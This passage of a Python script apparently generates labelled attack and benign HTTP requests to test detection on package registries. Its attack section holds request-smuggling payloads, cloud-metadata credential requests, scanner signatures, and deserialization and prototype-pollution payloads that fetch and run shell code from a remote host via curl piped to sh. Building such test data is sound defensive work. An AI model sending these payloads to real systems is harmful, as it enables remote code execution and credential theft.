    body = "0\r\n\r\nPUT /service/rest/v1/script HTTP/1.1\r\nHost: 127.0.0.1:8081\r\nContent-Length: 5\r\n\r\nx"
    req(C, "te-te", "POST", "/repository/npm-hosted/",
        ahs("nexus.example.net", NPM_UAS[0], [["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"], ["Content-Type", "application/json"]]), body)
    req(C, "te-xchunked", "PATCH", "/v2/acme/payments-api/blobs/uploads/%s" % uuid4(),
        ahs("registry.acme-internal.dev", DOCKER_UAS[0], [["Transfer-Encoding", "xchunked"], ["Content-Type", "application/octet-stream"]]),
        "5\r\nhello\r\n0\r\n\r\nDELETE /v2/acme/payments-api/manifests/latest HTTP/1.1\r\nHost: registry.acme-internal.dev\r\n\r\n")
    for i, te_line in enumerate(["Transfer-Encoding : chunked", "Transfer-Encoding:\tchunked", "Transfer-encoding: chunked, identity"]):
        b = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n".encode()
        head = ("POST /-/npm/v1/security/advisories/bulk HTTP/1.1\r\nHost: npm.acme-internal.dev\r\nUser-Agent: %s\r\n"
                "Content-Type: application/json\r\nContent-Length: %d\r\n%s\r\n\r\n" % (NPM_UAS[0], len(b), te_line)).encode()
        ATTACKS.append({"id": _next_id(C, "te-obfuscated"), "set": "registry", "category": C, "expect": "detect",
                        "raw_b64": base64.b64encode(head + b).decode()})
    req(C, "trace", "TRACE", "/v2/", ahs("registry.acme-internal.dev", "curl/8.5.0", [["Cookie", "harbor-lang=en-us; sid=" + ralnum(32)], ["Max-Forwards", "0"]]))
    req(C, "track", "TRACK", "/artifactory/api/system/ping", ahs("artifactory.acme.io", "curl/8.5.0"))
    req(C, "debug-verb", "DEBUG", "/api/v2/package/", ahs("nuget.acme-internal.dev", "curl/8.5.0", [["Command", "stop-debug"]]))
    req(C, "range-dos", "GET", "/v2/acme/payments-api/blobs/%s" % digest(),
        ahs("registry.acme-internal.dev", "curl/8.5.0", [["Range", "bytes=0-," + ",".join("5-%d" % i for i in range(1, 300))], ["Request-Range", "bytes=0-"]]))
    req(C, "get-with-smuggled-body", "GET", "/simple/requests/",
        ahs("pypi.acme-internal.dev", pick(PIP_UAS)), "GET /admin/ HTTP/1.1\r\nHost: localhost\r\n\r\n", "text/plain")
    head = ("GET http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: registry.acme-internal.dev\r\n"
            "User-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n").encode()
    ATTACKS.append({"id": _next_id(C, "absolute-uri-proxy"), "set": "registry", "category": C, "expect": "detect", "raw_b64": base64.b64encode(head).decode()})
    head = "CONNECT 10.0.0.5:22 HTTP/1.1\r\nHost: 10.0.0.5:22\r\nUser-Agent: curl/8.5.0\r\nProxy-Connection: Keep-Alive\r\n\r\n".encode()
    ATTACKS.append({"id": _next_id(C, "connect-tunnel"), "set": "registry", "category": C, "expect": "detect", "raw_b64": base64.b64encode(head).decode()})
    head = ("GET /v2/_catalog HTTP/1.1\r\nHost: registry.acme-internal.dev\r\nHost: localhost:5000\r\nUser-Agent: %s\r\nAccept: application/json\r\n\r\n" % DOCKER_UAS[0]).encode()
    ATTACKS.append({"id": _next_id(C, "duplicate-host"), "set": "registry", "category": C, "expect": "detect", "raw_b64": base64.b64encode(head).decode()})
    req(C, "method-override", "GET", "/api/v2/package/Acme.Billing.Client/1.2.0",
        ahs("nuget.acme-internal.dev", "curl/8.5.0", [["X-HTTP-Method-Override", "DELETE"], ["X-Method-Override", "DELETE"]]))

# ===========================================================================
# ATTACKS: scanners and reconnaissance tools
# ===========================================================================

def attack_scanner():
    C = "scanner"
    items = [
        ("npm.acme-internal.dev", "/-/v1/search?text=react&size=20", "sqlmap/1.8.9#stable (https://sqlmap.org)", []),
        ("git.example.org", "/.git/config", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)", []),
        ("artifactory.acme.io", "/artifactory/api/system/configuration", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", []),
        ("registry.acme-internal.dev", "/v2/_catalog?n=100000", "Mozilla/5.0 zgrab/0.x", []),
        ("nexus.example.net", "/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", []),
        ("nexus.example.net", "/service/rest/v1/status", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", []),
        ("npm.acme-internal.dev", "/.npmrc", "gobuster/3.6", []),
        ("pypi.acme-internal.dev", "/.pypirc", "Fuzz Faster U Fool v2.1.0-dev", []),
        ("registry.acme-internal.dev", "/.docker/config.json", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", []),
        ("nexus.example.net", "/service/rest/v1/script", "feroxbuster/2.10.4", []),
        ("npm.acme-internal.dev", "/-/whoami", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
         [["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"],
          ["Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"], ["Acunetix-User-Agreement", "http://www.acunetix.com/wvs/disc.htm"]]),
        ("npm.acme-internal.dev", "/-/whoami", "Mozilla/4.0 (Hydra)", [["Authorization", "Bearer npm_" + ralnum(36)]]),
        ("gitea.example.dev", "/api/v1/version", "WhatWeb/0.5.5", []),
        ("harbor.example.net", "/api/v2.0/systeminfo", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)", []),
        ("artifactory.acme.io", "/artifactory/api/repositories", "Arachni/v1.6.1.3", []),
        ("packages.acme-internal.dev", "/.env", "l9explore/1.2.2", []),
        ("chartmuseum.acme-internal.dev", "/index.yaml", "Mozilla/5.0 SF/2.10b", []),
        ("jenkins.acme-internal.dev", "/script", "Nessus SOAP v0.0.1 (Nessus.org)", []),
        ("gitlab.example.com", "/api/v4/projects?visibility=internal", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Netsparker", []),
    ]
    for host, p, ua, extra in items:
        req(C, "tool", "GET", p, [["Host", host], ["User-Agent", ua], ["Accept", "*/*"]] + extra)


# ===========================================================================
# ATTACKS: generic (prototype pollution, unsafe deserialization in JS/Ruby/Python, null bytes)
# ===========================================================================

def attack_generic():
    C = "generic"
    atk_npm_publish(C, "proto-pollution-publish", name="merge-deep-x", ver="1.0.0",
                    raw_json_fix=lambda t: t.replace('"access": "public"', '"access": "public", "__proto__": {"isAdmin": true, "maintainers": ["evil"]}'))
    req(C, "proto-pollution-query", "GET", "/-/v1/search?text=react&constructor[prototype][isAdmin]=true&__proto__[size]=100000",
        ahs("npm.acme-internal.dev", accept="application/json"))
    req(C, "proto-pollution-ejs", "POST", "/-/verdaccio/settings", ahs("verdaccio.build.example.net", pick(BROWSERS), accept="application/json"),
        "__proto__[outputFunctionName]=_tmp1%3Bglobal.process.mainModule.require(%27child_process%27).execSync(%27id%27)%3Bvar%20__tmp2&theme=dark",
        "application/x-www-form-urlencoded")
    req(C, "proto-pollution-json", "PATCH", "/-/npm/v1/user", npm_headers("npm.acme-internal.dev", cmd="profile", auth=True, accept="application/json"),
        json.dumps({"fullname": "x", "constructor": {"prototype": {"polluted": "yes", "shell": "/proc/self/exe", "NODE_OPTIONS": "--require /proc/self/environ"}}}),
        "application/json")
    req(C, "node-serialize", "POST", "/-/verdaccio/sec/login", ahs("verdaccio.build.example.net", pick(BROWSERS), accept="application/json"),
        json.dumps({"username": "a", "password": "b",
                    "remember": "_$$ND_FUNC$$_function(){require('child_process').exec('curl http://203.0.113.7/n|sh')}()"}), "application/json")
    req(C, "pyyaml-environment", "PUT", "/apps/acme/environment.yml", ahs("anaconda.acme-internal.dev", "anaconda-client/1.12.3", [["Authorization", "token " + ralnum(40)]]),
        "name: acme\nchannels: [conda-forge]\ndependencies:\n  - python=3.12\nextra: !!python/object/apply:os.system [\"curl http://203.0.113.7/y | sh\"]\n",
        "application/x-yaml")
    gemspec = ("--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n"
               "  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
               "       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n"
               "           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
               "           git_set: id\n       method_id: :resolve\n")
    req(C, "ruby-yaml-gadget", "POST", "/api/v1/gems/validate_spec", ahs("gems.acme-internal.dev", GEM_UAS[0], [["Authorization", "rubygems_" + rhex(48)]]),
        gemspec, "application/x-yaml")
    req(C, "null-byte", "GET", "/lodash/-/lodash-4.17.21.tgz%00.json", ahs("npm.acme-internal.dev", NPM_UAS[0]))
    req(C, "null-byte", "GET", "/maven2/com/acme/platform/billing-api/1.4.0/billing-api-1.4.0.jar%00.html", ahs("repo.acme-internal.dev", MAVEN_UAS[0]))
    req(C, "pickle-b64", "POST", "/api/v1/cache/restore", ahs("pypi.acme-internal.dev", "python-requests/2.31.0", accept="application/json"),
        json.dumps({"key": "simple-index", "blob": b64(b"\x80\x04\x95&\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x09curl x|sh\x94\x85\x94R\x94.")}),
        "application/json")



def main():
    gens_benign = [g for n, g in sorted(globals().items()) if n.startswith("benign_")]
    gens_dev = [g for n, g in sorted(globals().items()) if n.startswith("devcontent_")]
    gens_attack = [g for n, g in sorted(globals().items()) if n.startswith("attack_")]
    for g in gens_benign + gens_dev + gens_attack:
        g()
    os.makedirs(OUT_DIR, exist_ok=True)
    with open(os.path.join(OUT_DIR, "registry-attacks.jsonl"), "w", encoding="utf-8") as f:
        for r in ATTACKS:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    with open(os.path.join(OUT_DIR, "registry-benign.jsonl"), "w", encoding="utf-8") as f:
        for r in BENIGN:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    cats = {}
    for r in ATTACKS + BENIGN:
        cats[r["category"]] = cats.get(r["category"], 0) + 1
    print("attacks: %d  benign: %d" % (len(ATTACKS), len(BENIGN)))
    for c in sorted(cats):
        print("  %-12s %d" % (c, cats[c]))


if __name__ == "__main__":
    sys.exit(main())
